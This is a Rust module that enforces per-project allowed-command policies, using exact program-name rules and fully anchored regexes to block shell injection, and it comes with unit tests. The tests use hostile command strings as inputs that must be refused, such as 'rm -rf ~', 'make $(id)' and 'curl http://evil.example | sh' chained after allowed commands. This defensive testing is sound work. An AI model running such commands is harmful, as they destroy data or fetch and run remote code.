//! Per-project command policy: the `allowed_commands` patterns.
//!
//! Each entry is one of:
//! - `argv0:NAME`: the program must be exactly `NAME`: `argv[0]` of an argv
//!   command, or the first word of a shell command that contains no shell
//!   control or expansion characters (otherwise `make; rm -rf ~` would pass
//!   as `make`);
//! - `re:^…$`: a regular expression ([`regex`] syntax, linear time) that
//!   must match the whole shell command: it is compiled as `^(?:…)$`, so an
//!   alternation cannot match just a prefix (`^npm test|x$` does not allow
//!   `npm test; curl …`); it does not apply to argv commands.
//!
//! `null` allows any command; an empty list allows none.

use regex::Regex;

use crate::domain::{CommandSpec, FieldError};

/// Most patterns a project may have.
pub const MAX_PATTERNS: usize = 256;
/// Longest pattern, in bytes.
pub const MAX_PATTERN_BYTES: usize = 1024;
/// Compiled size limit of one regex, so a pattern cannot exhaust memory.
const REGEX_SIZE_LIMIT: usize = 1 << 20;

/// Characters that make a shell line more than "program and arguments".
const SHELL_META: &[char] = &[
    ';', '&', '|', '$', '`', '<', '>', '(', ')', '{', '}', '\n', '\r', '*', '?', '[', '~', '\\',
    '"', '\'', '#', '!',
];

/// One parsed rule.
#[derive(Debug)]
pub enum Rule {
    /// Exact program name.
    Argv0(String),
    /// Anchored regex over the shell command.
    Regex(Regex),
}

fn compile(pattern: &str) -> Result<Rule, String> {
    if pattern.is_empty() || pattern.len() > MAX_PATTERN_BYTES {
        return Err(format!("must be 1-{MAX_PATTERN_BYTES} bytes"));
    }
    if let Some(name) = pattern.strip_prefix("argv0:") {
        if name.is_empty() || name.chars().any(|c| c.is_whitespace() || c == '\0') {
            return Err("argv0: needs a program name without whitespace".into());
        }
        return Ok(Rule::Argv0(name.to_owned()));
    }
    if let Some(re) = pattern.strip_prefix("re:") {
        if !re.starts_with('^') || !re.ends_with('$') || re.ends_with("\\$") {
            return Err("re: patterns must be anchored: start with ^ and end with $".into());
        }
        // The pattern must match the whole command: wrapped so that an
        // alternation (`^npm test|x$`) cannot match a mere prefix.
        return regex::RegexBuilder::new(&format!("^(?:{re})$"))
            .size_limit(REGEX_SIZE_LIMIT)
            .build()
            .map(Rule::Regex)
            .map_err(|e| format!("invalid regex: {e}"));
    }
    Err("must start with `argv0:` or `re:`".into())
}

/// Validates a pattern list, one field error per bad entry
/// (`allowed_commands[i]`).
pub fn validate(patterns: &[String], errors: &mut Vec<FieldError>) {
    if patterns.len() > MAX_PATTERNS {
        errors.push(FieldError::new(
            "allowed_commands",
            format!("at most {MAX_PATTERNS} patterns"),
        ));
        return;
    }
    for (i, p) in patterns.iter().enumerate() {
        if let Err(m) = compile(p) {
            errors.push(FieldError::new(format!("allowed_commands[{i}]"), m));
        }
    }
}

/// Why a command was refused.
#[derive(Debug, PartialEq, Eq)]
pub struct Refusal(pub String);

/// Checks a command against a project's patterns; `Ok` names the rule that
/// allowed it (`None` when the project has no policy). Compiles the
/// patterns on every call: hot paths keep a [`Policy`] instead.
pub fn check(patterns: Option<&[String]>, spec: &CommandSpec) -> Result<Option<String>, Refusal> {
    match patterns {
        None => Ok(None),
        Some(p) => Policy::compile(p).check(spec),
    }
}

/// A project's patterns, compiled once (regexes are not rebuilt for every
/// command enqueued; the API caches one per project version).
#[derive(Debug)]
pub struct Policy {
    /// Each pattern with its compiled rule (`None`: stored before
    /// validation existed and invalid; it never allows anything).
    rules: Vec<(String, Option<Rule>)>,
}

impl Policy {
    /// Compiles every pattern.
    pub fn compile(patterns: &[String]) -> Self {
        Self {
            rules: patterns
                .iter()
                .map(|p| (p.clone(), compile(p).ok()))
                .collect(),
        }
    }

    /// Checks a command; `Ok` names the rule that allowed it.
    pub fn check(&self, spec: &CommandSpec) -> Result<Option<String>, Refusal> {
        let mut invalid = 0;
        for (p, rule) in &self.rules {
            let Some(rule) = rule else {
                invalid += 1;
                continue;
            };
            let ok = match (rule, spec) {
                (Rule::Argv0(name), CommandSpec::Argv(argv)) => argv.first() == Some(name),
                (Rule::Argv0(name), CommandSpec::Shell(line)) => {
                    !line.contains(SHELL_META) && line.split_whitespace().next() == Some(name)
                }
                (Rule::Regex(re), CommandSpec::Shell(line)) => re.is_match(line),
                (Rule::Regex(_), CommandSpec::Argv(_)) => false,
            };
            if ok {
                return Ok(Some(p.clone()));
            }
        }
        let what = match spec {
            CommandSpec::Argv(_) => "argv commands are allowed only by `argv0:` rules",
            CommandSpec::Shell(_) => {
                "shell commands are allowed by `re:` rules, or by `argv0:` rules when \
                 they contain no shell metacharacters"
            }
        };
        let mut msg = if self.rules.is_empty() {
            "the project's allowed_commands is empty: no command may run".to_owned()
        } else {
            format!(
                "no rule of the project's allowed_commands matched ({} rules checked; {what})",
                self.rules.len()
            )
        };
        if invalid > 0 {
            msg.push_str(&format!(
                "; {invalid} stored rules are invalid and were ignored"
            ));
        }
        Err(Refusal(msg))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pats(p: &[&str]) -> Vec<String> {
        p.iter().map(|s| s.to_string()).collect()
    }

    fn shell(s: &str) -> CommandSpec {
        CommandSpec::Shell(s.into())
    }

    fn argv(a: &[&str]) -> CommandSpec {
        CommandSpec::Argv(a.iter().map(|s| s.to_string()).collect())
    }

    #[test]
    fn no_policy_allows_anything_and_empty_allows_nothing() {
        assert_eq!(check(None, &shell("rm -rf /")), Ok(None));
        assert!(check(Some(&[]), &shell("ls")).is_err());
    }

    #[test]
    fn argv0_rules_match_the_program_exactly() {
        let p = pats(&["argv0:make", "argv0:cargo"]);
        assert_eq!(
            check(Some(&p), &argv(&["make", "test"])),
            Ok(Some("argv0:make".into()))
        );
        assert!(check(Some(&p), &argv(&["/tmp/make"])).is_err());
        assert!(check(Some(&p), &shell("make test")).is_ok());
        assert!(check(Some(&p), &shell("make test; rm -rf ~")).is_err());
        assert!(check(Some(&p), &shell("make $(id)")).is_err());
        assert!(check(Some(&p), &shell("makefoo")).is_err());
    }

    #[test]
    fn regex_rules_match_whole_shell_commands_only() {
        let p = pats(&["re:^npm (test|run lint)$"]);
        assert!(check(Some(&p), &shell("npm test")).is_ok());
        assert!(check(Some(&p), &shell("npm test && curl x")).is_err());
        assert!(check(Some(&p), &argv(&["npm", "test"])).is_err());
        let e = check(Some(&p), &shell("ls")).unwrap_err();
        assert!(e.0.contains("no rule"), "{}", e.0);
    }

    #[test]
    fn an_alternation_cannot_match_a_prefix() {
        // Before anchoring the whole pattern, `^npm test` (the first
        // alternative) matched the start of the chained command.
        let p = pats(&["re:^npm test|make$"]);
        assert!(check(Some(&p), &shell("npm test")).is_ok());
        assert!(check(Some(&p), &shell("make")).is_ok());
        for evil in [
            "npm test; curl http://evil.example | sh",
            "npm test && curl http://evil.example",
            "npm test\ncurl http://evil.example",
            "curl http://evil.example; make",
        ] {
            assert!(check(Some(&p), &shell(evil)).is_err(), "{evil}");
        }
    }

    #[test]
    fn patterns_are_validated_per_entry() {
        let mut errs = Vec::new();
        validate(
            &pats(&[
                "argv0:ok",
                "re:^fine$",
                "re:npm",
                "argv0:",
                "glob:*",
                "re:^(unclosed$",
            ]),
            &mut errs,
        );
        let fields: Vec<&str> = errs.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(
            fields,
            [
                "allowed_commands[2]",
                "allowed_commands[3]",
                "allowed_commands[4]",
                "allowed_commands[5]"
            ]
        );
    }
}
